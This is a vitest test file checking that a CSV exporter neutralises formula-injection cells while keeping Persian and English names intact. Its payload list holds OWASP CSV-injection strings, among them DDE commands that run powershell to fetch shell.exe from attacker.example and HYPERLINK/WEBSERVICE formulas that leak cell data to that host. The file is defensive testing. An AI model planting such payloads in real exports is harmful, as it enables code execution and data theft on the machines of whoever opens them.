import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLines, neutralizeCell, toCsv, utf8Bom } from './csv';

// OWASP "CSV Injection" payloads and variants seen in the wild (DDE, HYPERLINK, web requests).
const owaspPayloads = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: please click for details")',
  "+cmd|' /C notepad'!'B1'",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+2',
  '+1+2',
  '-1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://attacker.example/")',
  "\t=1+2",
  "\r=1+2",
  "\n-2+3",
  '\u200f=HYPERLINK("x")',
  '  =1',
  '-(1)',
  "+'Sheet 2'!A1",
  '-A1',
  '+ 1',
];

// Values real victim lists contain that begin like a formula but are text to any spreadsheet.
const realValues = ['-', '- ', '+', '-Ali', '+Reza', '-Arash Rahimi', '- Tehran', '-آرش', '+ شیرین', 'Negar Ahmadinejad-Test'];

describe('CSV cells are neutralised against formula injection', () => {
  it.each([
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\u200f=HYPERLINK("x")', '\'\u200f=HYPERLINK("x")'],
    ['  =1', "'  =1"],
  ])('%j becomes %j', (input, expected) => {
    expect(neutralizeCell(input)).toBe(expected);
  });

  it('leaves ordinary Persian and English text, numbers and empty values alone', () => {
    expect(neutralizeCell('آرش نمونه‌زاده (نمونه)')).toBe('آرش نمونه‌زاده (نمونه)');
    expect(neutralizeCell('مادر = شاهد')).toBe('مادر = شاهد');
    expect(neutralizeCell('Tehran')).toBe('Tehran');
    expect(neutralizeCell(22)).toBe(22);
    expect(neutralizeCell(null)).toBe('');
    expect(neutralizeCell(undefined)).toBe('');
    expect(neutralizeCell(true)).toBe('true');
  });

  it('neutralises Persian text that starts with = or @', () => {
    expect(neutralizeCell('=سلام')).toBe("'=سلام");
    expect(neutralizeCell('@سلام')).toBe("'@سلام");
  });

  it.each(owaspPayloads)('neutralises the OWASP payload %j', (payload) => {
    expect(neutralizeCell(payload)).toBe(`'${payload}`);
  });

  it.each(realValues)('leaves the real value %j exactly as it is', (value) => {
    expect(neutralizeCell(value)).toBe(value);
  });

  it('reads back from the CSV exactly as the JSON holds it, for every real value (0 mismatches)', () => {
    const rows = realValues.map((name, i) => [i, name]);
    const read = parse(toCsv(['id', 'name'], rows), { bom: true, columns: true }) as Array<{ id: string; name: string }>;
    expect(read.map((r) => r.name)).toEqual(realValues);
  });
});

describe('CSV documents', () => {
  it('start with a UTF-8 byte-order mark and a header row, with CRLF line ends', () => {
    const csv = toCsv(['name', 'count'], [['تهران', 3]]);
    expect(csv.startsWith(utf8Bom)).toBe(true);
    expect(csv.slice(1)).toBe('name,count\r\nتهران,3\r\n');
  });

  it('quotes commas, quotes and line breaks, and neutralises inside quoted cells', () => {
    const csv = csvLines([['a, b', 'say "hi"', 'line\nbreak', '=1,2']]);
    expect(csv).toBe('"a, b","say ""hi""","line\nbreak","\'=1,2"\r\n');
  });
});
